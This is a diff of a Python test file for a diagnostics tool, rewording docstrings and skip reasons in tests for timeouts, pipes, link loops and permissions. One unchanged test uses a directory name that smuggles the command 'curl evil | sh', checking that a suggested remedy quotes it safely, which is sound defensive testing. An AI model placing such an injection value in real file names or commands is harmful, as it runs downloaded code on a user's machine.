@@ -44,14 +44,14 @@ VOYAGE = install_command("pytools-hybrid[voyageai]")
 
 @pytest.fixture(autouse=True)
 def _patient(monkeypatch):
-    """Checks wait longer than a busy machine takes."""
+    """Make checks wait longer than a busy machine needs."""
     monkeypatch.setattr(_watcher, "_PATIENCE_SECONDS", PATIENCE)
     for look in (look_at_watching, look_at_server):
         monkeypatch.setitem(look.__kwdefaults__, "seconds", PATIENCE)
 
 
 def diagnosed(checked):
-    """Run checks, each with more time than a busy machine takes."""
+    """Run checks, each with more time than a busy machine needs."""
     return list(diagnose(replace(it, seconds=2.0 * PATIENCE) for it in checked))
 
 
@@ -292,7 +292,9 @@ def test_the_name_of_a_tree_is_quoted_in_a_remedy(look_at_tree, tmp_path):
     assert verdict.remedy.startswith(f"mkdir -p '{tmp_path}/x; curl evil | sh', ")
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="Windows has neither")
+@pytest.mark.skipif(
+    sys.platform == "win32", reason="Windows has no FIFOs, and links need a privilege"
+)
 def test_a_pipe_or_a_loop_of_links_in_place_of_a_tree_fails(look_at_tree, tmp_path):
     pipe, circle = tmp_path / "pipe", tmp_path / "circle"
     os.mkfifo(pipe)
@@ -393,7 +395,7 @@ if os.geteuid() != 65534:
 """
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="Windows has other permissions")
+@pytest.mark.skipif(sys.platform == "win32", reason="Windows permissions work differently")
 def test_missing_permissions_are_reported(root, indexed, tmp_path):
     others = tmp_path / "others"
     others.mkdir()
@@ -615,7 +617,7 @@ def test_a_missing_generator_for_imports_is_reported():
 
 
 def times(folder):
-    """Return when each file and folder was changed last."""
+    """Return when each file and folder was last changed."""
     return {
         path: (path.stat().st_mtime_ns, path.stat().st_ctime_ns)
         for path in (folder, *folder.rglob("*"))
